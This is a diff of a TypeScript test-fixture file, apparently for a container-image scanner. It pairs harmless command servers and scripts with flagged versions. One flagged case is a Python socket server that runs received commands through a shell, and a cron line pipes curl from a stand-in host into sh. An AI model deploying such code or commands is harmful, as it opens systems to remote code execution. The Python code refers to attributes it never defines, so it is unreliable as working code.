@@ -77,6 +77,37 @@ const STEPS = Array.from(
 
 const FETCHED = 'https://releases.example/latest.json';
 
+/** As servers that run commands for a client of the same user are written: what comes in there is told apart by a table. */
+const COMMAND_SERVER = `import os
+import socket
+import subprocess
+
+
+class Screen:
+    def _runsystem(self, cmd, cwd):
+        return subprocess.call(cmd, shell=True, cwd=cwd)
+
+
+class Channel:
+    def __init__(self, sock):
+        self.in_ = sock.makefile()
+
+    def __call__(self, cmd, table):
+        self.out.write(" ".join(["pager", cmd]))
+        while True:
+            cmd = self.in_.readline()[:-1]
+            if not cmd:
+                break
+            if table and cmd in table:
+                table[cmd]()
+            else:
+                raise ValueError("unexpected command: " + cmd)
+
+
+sock = socket.socket(socket.AF_UNIX)
+sock.bind("/run/app.sock")
+`;
+
 /** What tools do that only look like what hides. */
 export const REAL_TOOL_TWINS: readonly ImageCase[] = [
   {
@@ -129,6 +160,15 @@ export const REAL_TOOL_TWINS: readonly ImageCase[] = [
   {
     name: 'a start script that notes each of six hundred steps in its log',
     spec: starts(`log() { echo "$(date) $1" | tee -a /var/log/setup.log; }\n${STEPS}exec nginx`),
+  },
+  {
+    name: 'a server that asks its client for commands by name, with a function of its own that runs some',
+    spec: image(
+      {
+        'usr/bin/server': `#!/usr/bin/python3\n${COMMAND_SERVER}Channel(sock.accept()[0])("less", {})\n`,
+      },
+      { Entrypoint: ['server'] },
+    ),
   },
   { name: 'a text taken apart by perl and put together by awk', spec: starts(MERGES) },
   {
@@ -241,6 +281,17 @@ export const REAL_TOOLS: readonly ImageCase[] = [
           ? 'job "* * * * * root curl -s http://192.0.2.7/x | sh"\n'
           : `job "0 ${i % 24} * * * root /opt/app/job --number ${i}"\n`,
       ).join('')}exec cron -f`,
+    ),
+  },
+  {
+    name: 'a server of commands that hands what it reads to the function that runs some',
+    rule: 'reverse-shell/remote-shell',
+    severity: 'high',
+    spec: image(
+      {
+        'usr/bin/server': `#!/usr/bin/python3\n${COMMAND_SERVER.replace('                raise ValueError("unexpected command: " + cmd)', '                self.screen._runsystem(cmd, "/")')}Channel(sock.accept()[0])("less", {})\n`,
+      },
+      { Entrypoint: ['server'] },
     ),
   },
   {
